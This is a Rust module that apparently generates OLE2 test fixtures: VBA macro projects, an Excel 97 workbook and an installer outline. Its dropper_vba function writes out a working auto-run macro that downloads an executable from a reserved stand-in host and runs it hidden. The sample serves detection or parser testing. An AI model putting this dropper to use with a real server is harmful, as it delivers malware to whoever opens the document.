//! OLE2 files (MS-CFB): VBA projects (MS-OVBA), an Excel 97 workbook (MS-XLS), the outline of a Windows installer.
//!
//! **Invariant:** the macros here are text that is never run; the dropper's address is a reserved one (RFC 2606).

use super::Cell;
use crate::bits;
use anyhow::{Context as _, Result};
use std::io::{Cursor, Write as _};
use std::time::{Duration, SystemTime};

/// Builds a compound file of streams (path, content); storages are made where a path needs them. `root_class` is the
/// class identifier of the root as it stands in the file.
///
/// # Errors
/// When the library refuses a path.
pub fn compound_file(streams: &[(&str, Vec<u8>)], root_class: Option<[u8; 16]>) -> Result<Vec<u8>> {
    let mut file = cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new())).context("compound file")?;
    let time = SystemTime::UNIX_EPOCH + Duration::from_secs(u64::from(crate::archive::UNIX_TIME));
    for (path, content) in streams {
        if let Some((storage, _)) = path.rsplit_once('/').filter(|(storage, _)| !storage.is_empty() && !file.is_storage(storage)) {
            file.create_storage_all(storage).with_context(|| format!("storage {storage}"))?;
            file.set_created_time(storage, time)?;
            file.set_modified_time(storage, time)?;
        }
        file.create_stream(path).and_then(|mut s| s.write_all(content)).with_context(|| format!("stream {path}"))?;
    }
    file.flush()?;
    let mut bytes = file.into_inner().into_inner();
    // The root's class and times stand at fixed places of the first directory entry (MS-CFB 2.2, 2.6.1).
    let sector = bytes.get(48..52).and_then(|s| s.try_into().ok()).map_or(0, u32::from_le_bytes) as usize;
    let root = (sector + 1) * 512;
    bytes.get_mut(root + 80..root + 96).context("directory entry of the root")?.copy_from_slice(&root_class.unwrap_or_default());
    bytes.get_mut(root + 100..root + 116).context("directory entry of the root")?.fill(0);
    Ok(bytes)
}

/// How the source of a module is stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Packing {
    /// In compressed chunks (of literal tokens only).
    Compressed,
    /// In raw chunks, filled up with line ends: the text stands in the file as it is.
    Raw,
}

/// Compressed container (MS-OVBA 2.4.1.1).
fn ovba_container(source: &[u8], packing: Packing) -> Vec<u8> {
    let mut out = vec![1];
    match packing {
        // BOUND: 3,500 literal bytes with their flag bytes stay below the 4,098 bytes a chunk may have.
        Packing::Compressed => {
            for chunk in source.chunks(3_500) {
                let tokens: Vec<u8> = chunk.chunks(8).flat_map(|eight| std::iter::once(0).chain(eight.iter().copied())).collect();
                out.extend((0xB000u16 | (tokens.len() as u16 - 1)).to_le_bytes());
                out.extend(tokens);
            }
        }
        Packing::Raw => {
            for chunk in source.chunks(4_096) {
                out.extend(0x3FFFu16.to_le_bytes());
                out.extend(chunk.iter().copied().chain(std::iter::repeat(b'\n')).take(4_096));
            }
        }
    }
    out
}

fn record(out: &mut Vec<u8>, id: u16, body: &[u8]) {
    out.extend(id.to_le_bytes());
    out.extend((body.len() as u32).to_le_bytes());
    out.extend(body);
}

/// The `dir` stream before compression (MS-OVBA 2.3.4.2).
fn vba_directory(modules: &[(&str, bool, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    record(&mut out, 0x01, &1u32.to_le_bytes());
    record(&mut out, 0x02, &0x409u32.to_le_bytes());
    record(&mut out, 0x14, &0x409u32.to_le_bytes());
    record(&mut out, 0x03, &1252u16.to_le_bytes());
    record(&mut out, 0x04, b"Projekt");
    for id in [0x05, 0x40, 0x06, 0x3D] {
        record(&mut out, id, &[]);
    }
    record(&mut out, 0x07, &[0; 4]);
    record(&mut out, 0x08, &[0; 4]);
    out.extend([0x09, 0, 4, 0, 0, 0, 1, 0, 0, 0, 1, 0]);
    for id in [0x0C, 0x3C] {
        record(&mut out, id, &[]);
    }
    record(&mut out, 0x0F, &(modules.len() as u16).to_le_bytes());
    record(&mut out, 0x13, &[0xFF, 0xFF]);
    for (name, is_document, _) in modules {
        let wide = bits::utf16le(name);
        record(&mut out, 0x19, name.as_bytes());
        record(&mut out, 0x47, &wide);
        record(&mut out, 0x1A, name.as_bytes());
        record(&mut out, 0x32, &wide);
        for id in [0x1C, 0x48] {
            record(&mut out, id, &[]);
        }
        record(&mut out, 0x31, &[0; 4]);
        record(&mut out, 0x1E, &[0; 4]);
        record(&mut out, 0x2C, &[0xFF, 0xFF]);
        record(&mut out, if *is_document { 0x22 } else { 0x21 }, &[]);
        record(&mut out, 0x2B, &[]);
    }
    record(&mut out, 0x10, &[]);
    out
}

/// A `vbaProject.bin` of modules: name, whether it belongs to a document or sheet, source without its attribute lines.
///
/// # Errors
/// When the library refuses a module name.
pub fn vba_project(modules: &[(&str, bool, &str)], packing: Packing) -> Result<Vec<u8>> {
    let mut text = String::from("ID=\"{917DED54-440B-4FD1-A5C1-74ACF261E600}\"\r\n");
    let mut wide_names = Vec::new();
    let mut streams: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, is_document, source) in modules {
        text.push_str(&if *is_document { format!("Document={name}/&H00000000\r\n") } else { format!("Module={name}\r\n") });
        wide_names.extend(name.bytes().chain([0]));
        wide_names.extend(bits::utf16le(name));
        wide_names.extend([0, 0]);
        let source = format!("Attribute VB_Name = \"{name}\"\r\n{source}");
        streams.push((format!("/VBA/{name}"), ovba_container(&bits::windows_1252(&source), packing)));
    }
    wide_names.extend([0, 0]);
    text.push_str(
        "Name=\"Projekt\"\r\nHelpContextID=\"0\"\r\nVersionCompatible32=\"393222000\"\r\nCMG=\"0705D8E3D8EDDBF1DBF1DBF1DBF1\"\r\n\
         DPB=\"0E0CD1ECDFF4E7F5E7F5E7\"\r\nGC=\"1517CAF1D6F9D7F9D706\"\r\n\r\n[Host Extender Info]\r\n\
         &H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n\r\n[Workspace]\r\n",
    );
    streams.push(("/VBA/dir".into(), ovba_container(&vba_directory(modules), Packing::Compressed)));
    streams.push(("/VBA/_VBA_PROJECT".into(), vec![0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0]));
    streams.push(("/PROJECT".into(), text.into_bytes()));
    streams.push(("/PROJECTwm".into(), wide_names));
    let streams: Vec<(&str, Vec<u8>)> = streams.iter().map(|(path, content)| (path.as_str(), content.clone())).collect();
    compound_file(&streams, None)
}

/// A harmless macro: a message box that a person must start.
///
/// # Errors
/// As [`vba_project`].
pub fn harmless_vba(document_module: &str) -> Result<Vec<u8>> {
    let source = "Option Explicit\r\n\r\nPublic Sub Begruessung()\r\n    MsgBox \"Guten Tag aus dem Makro.\", vbInformation, \"Muster AG\"\r\nEnd Sub\r\n";
    vba_project(&[(document_module, true, "Option Explicit\r\n"), ("Modul1", false, source)], Packing::Compressed)
}

/// A dropper as it arrives by mail: starts itself, fetches a program, runs it. Never run here; its server does not exist.
///
/// # Errors
/// As [`vba_project`].
pub fn dropper_vba(document_module: &str) -> Result<Vec<u8>> {
    let source = "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" _\r\n    \
        (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n\r\n\
        Sub Auto_Open()\r\n    Document_Open\r\nEnd Sub\r\n\r\nSub Document_Open()\r\n    Dim ziel As String\r\n    \
        ziel = Environ(\"TEMP\") & \"\\update.exe\"\r\n    URLDownloadToFile 0, \"http://update.example.invalid/update.exe\", ziel, 0, 0\r\n    \
        Shell ziel, vbHide\r\nEnd Sub\r\n";
    vba_project(&[(document_module, true, "Option Explicit\r\n"), ("Modul1", false, source)], Packing::Raw)
}

/// An Excel 97 workbook with one sheet (BIFF8 in a compound file).
///
/// # Errors
/// When a number cell holds no number, or the library refuses.
pub fn xls(sheet: &str, rows: &[Vec<Cell>]) -> Result<Vec<u8>> {
    let biff = |out: &mut Vec<u8>, id: u16, body: &[u8]| {
        out.extend(id.to_le_bytes());
        out.extend((body.len() as u16).to_le_bytes());
        out.extend(body);
    };
    let begin = |kind: u16| {
        let words: [u16; 8] = [0x0600, kind, 0x0DBB, 0x07CC, 0x00C1, 0, 0x0006, 0];
        words.iter().flat_map(|w| w.to_le_bytes()).collect::<Vec<u8>>()
    };
    let mut cells = Vec::new();
    for (row, line) in rows.iter().enumerate() {
        for (column, cell) in line.iter().enumerate() {
            let mut body: Vec<u8> = [row as u16, column as u16, 0].iter().flat_map(|w| w.to_le_bytes()).collect();
            match cell {
                Cell::Text(text) => {
                    let wide = bits::utf16le(text);
                    body.extend((wide.len() as u16 / 2).to_le_bytes());
                    body.push(1);
                    body.extend(wide);
                    biff(&mut cells, 0x0204, &body);
                }
                Cell::Number(value) | Cell::Formula(_, value) => {
                    body.extend(value.parse::<f64>().with_context(|| format!("cell value {value}"))?.to_le_bytes());
                    biff(&mut cells, 0x0203, &body);
                }
            }
        }
    }
    let name = bits::utf16le(sheet);
    let mut book = Vec::new();
    biff(&mut book, 0x0809, &begin(5));
    biff(&mut book, 0x0042, &0x04B0u16.to_le_bytes());
    // Offset of the sheet: behind this record (8 bytes and the name, with a head of 4) and the end record of 4.
    let sheet_at = (book.len() + 4 + 8 + name.len() + 4) as u32;
    let mut entry = sheet_at.to_le_bytes().to_vec();
    entry.extend([0, 0, (name.len() / 2) as u8, 1]);
    entry.extend(&name);
    biff(&mut book, 0x0085, &entry);
    biff(&mut book, 0x000A, &[]);
    biff(&mut book, 0x0809, &begin(0x10));
    // Used area: rows and columns, each first and one past the last (MS-XLS 2.4.90).
    let columns = rows.iter().map(Vec::len).max().unwrap_or(0) as u32;
    let area = [0, rows.len() as u32, columns << 16, 0];
    biff(&mut book, 0x0200, area.map(u32::to_le_bytes).as_flattened().get(..14).unwrap_or_default());
    book.extend(cells);
    biff(&mut book, 0x000A, &[]);
    // Streams below 4,096 bytes lie in the mini stream, which old readers of this stream do not expect.
    book.resize(book.len().max(4_096), 0);
    compound_file(&[("/Workbook", book)], Some(*b"\x20\x08\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"))
}

/// What a Windows installer looks like from outside: the class identifier and the stream names of one, without tables.
///
/// # Errors
/// When the library refuses a stream name.
pub fn msi_outline() -> Result<Vec<u8>> {
    compound_file(
        &[
            ("/\u{5}SummaryInformation", vec![0xFE, 0xFF, 0, 0, 6, 1, 2, 0]),
            ("/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3E6A}\u{44B2}\u{482F}", vec![0xE4, 4, 0, 0]),
            ("/\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3B6A}\u{45E4}\u{4824}", b"Muster-Installation".to_vec()),
        ],
        Some(*b"\x84\x10\x0C\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;

    #[test]
    fn the_project_has_its_streams_and_no_clock_in_it() {
        let bytes = dropper_vba("ThisDocument").unwrap();
        assert_eq!(bytes, dropper_vba("ThisDocument").unwrap());
        let mut file = cfb::CompoundFile::open(Cursor::new(bytes)).unwrap();
        let mut source = Vec::new();
        file.open_stream("/VBA/Modul1").unwrap().read_to_end(&mut source).unwrap();
        assert!(source.windows(17).any(|w| w == b"URLDownloadToFile"));
        assert!(file.is_stream("/VBA/dir") && file.is_stream("/PROJECT"));
    }

    #[test]
    fn a_compressed_container_has_the_length_it_says() {
        let bytes = ovba_container(b"0123456789", Packing::Compressed);
        assert_eq!(bytes, b"\x01\x0B\xB0\x0001234567\x0089");
    }
}
